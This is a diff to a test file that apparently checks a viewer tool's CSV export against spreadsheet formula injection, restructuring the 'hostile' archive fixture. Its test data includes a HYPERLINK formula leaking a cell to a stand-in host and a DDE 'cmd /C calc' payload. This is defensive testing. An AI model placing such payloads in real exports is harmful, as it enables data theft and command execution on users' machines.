@@ -10,8 +10,9 @@ import os
 
 import pytest
 from click.testing import CliRunner
-from conftest import SEED
+from conftest import SEED, assert_a_copy_of_its_own
 
+from viewer.archive import Archive
 from viewer.cli import cli
 from viewer.errors import ExportError
 from viewer.export import safe_stem
@@ -21,15 +22,25 @@ EDITOR = "王编辑"
 FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
 
 
-@pytest.fixture
-def hostile(archive):
+def build_hostile(folder):
     """The seed page, its title and first paragraphs corrected to what a spreadsheet would run."""
-    archive.importing.import_paths([SEED])
-    archive.editing.correct(1, title=FORMULA_TITLE, author=EDITOR)
-    archive.editing.correct(1, paragraph=1, text="+86 358 1234567", author=EDITOR)
-    archive.editing.correct(1, paragraph=2, text="@SUM(1+1)*cmd|' /C calc'!A0", author=EDITOR)
-    archive.editing.correct(1, paragraph=3, text="\t=1+1", author=EDITOR)
-    return archive
+    with Archive(folder / "archive") as archive:
+        archive.importing.import_paths([SEED])
+        archive.editing.correct(1, title=FORMULA_TITLE, author=EDITOR)
+        archive.editing.correct(1, paragraph=1, text="+86 358 1234567", author=EDITOR)
+        archive.editing.correct(1, paragraph=2, text="@SUM(1+1)*cmd|' /C calc'!A0", author=EDITOR)
+        archive.editing.correct(1, paragraph=3, text="\t=1+1", author=EDITOR)
+
+
+@pytest.fixture
+def hostile(templates, tmp_path):
+    """:func:`build_hostile`'s archive, a copy of the test's own."""
+    with Archive(templates.copy("hostile", build_hostile, tmp_path)) as archive:
+        yield archive
+
+
+def test_hostile_is_a_copy_of_its_own(hostile, templates, tmp_path_factory):
+    assert_a_copy_of_its_own(hostile, templates.copy("hostile", build_hostile, tmp_path_factory.mktemp("again")))
 
 
 def csv_rows(path) -> list[dict]:
